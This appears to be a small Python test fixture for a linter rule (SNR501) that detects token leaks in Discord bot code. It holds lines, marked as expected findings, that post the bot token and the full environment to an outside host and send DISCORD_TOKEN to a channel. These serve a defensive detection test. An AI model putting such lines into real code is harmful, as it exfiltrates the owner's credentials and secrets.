import os

import requests


async def leak(bot, channel, session):
    await session.post("https://x.io", json={"content": bot.http.token})  # expect: SNR501
    await channel.send(os.environ["DISCORD_TOKEN"])  # expect: SNR501
    requests.post("https://x.io", data=dict(os.environ))  # expect: SNR501
    await session.get("https://discord.com/api/v10/users/@me", headers={"Authorization": bot.http.token})  # ok: the host that it is for
    await channel.send("ready")  # ok
